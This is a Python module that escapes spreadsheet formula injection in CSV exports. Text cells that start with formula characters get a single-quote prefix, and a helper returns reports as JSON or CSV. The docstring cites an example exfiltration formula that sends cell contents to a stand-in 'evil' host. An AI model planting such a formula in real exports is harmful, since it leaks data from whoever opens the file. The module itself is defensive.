"""CSV exports that a spreadsheet cannot be tricked into running.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read by Excel, LibreOffice and Google Sheets as a formula (CSV or "formula"
injection, OWASP): an imported business unit ``=HYPERLINK("http://evil/?"&A1)``
would run on the coordinator's machine when they open an export. Every CSV a
service returns is written through :class:`SafeDictWriter` (or :func:`csv_safe`),
which prefixes such text with a single quote, as OWASP recommends; the quote shows
in the cell, the formula never runs.

A route that answers the same report as JSON or as CSV renders it with
:func:`rendered`: the report itself for JSON, its rows written as above for CSV.

Only text is escaped. Numbers and booleans are written as they are (``-0.5`` stays a
number a spreadsheet can sum): they come from the service's own arithmetic, never
from a person's input.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import Any, Protocol, TypeVar

from starlette.responses import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
Report = TypeVar("Report")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def csv_safe(value: Any) -> Any:
    """``value`` as a spreadsheet will only ever display it (see the module)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeDictWriter:
    """``csv.DictWriter`` whose every text cell (the header too) goes through
    :func:`csv_safe`; same arguments, same ``writeheader``/``writerow``/``writerows``."""

    def __init__(
        self, out: _Writable, fieldnames: Sequence[str], **options: Any
    ) -> None:
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, **options)
        self.fieldnames = list(fieldnames)

    def writeheader(self) -> None:
        self._writer.writerow({f: csv_safe(f) for f in self.fieldnames})

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({k: csv_safe(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def rendered(
    report: Report,
    fmt: str,
    rows: Callable[[Report], Iterable[Mapping[str, Any]]],
    fieldnames: Sequence[str],
    *,
    filename: str | None = None,
    **options: Any,
) -> Report | Response:
    """``report`` as a route answers it in ``fmt``: ``"json"`` answers the report as
    it is (FastAPI serialises it); ``"csv"`` answers ``rows(report)`` written by
    :class:`SafeDictWriter` (header first, ``options`` as ``csv.DictWriter`` takes
    them) as ``text/csv``, an attachment named ``filename`` when one is given."""
    if fmt == "json":
        return report
    if fmt != "csv":
        raise ValueError(f"unknown export format {fmt!r}")
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames, **options)
    writer.writeheader()
    writer.writerows(rows(report))
    headers = (
        {"Content-Disposition": f'attachment; filename="{filename}"'}
        if filename
        else None
    )
    return Response(out.getvalue(), media_type=CSV_MEDIA_TYPE, headers=headers)
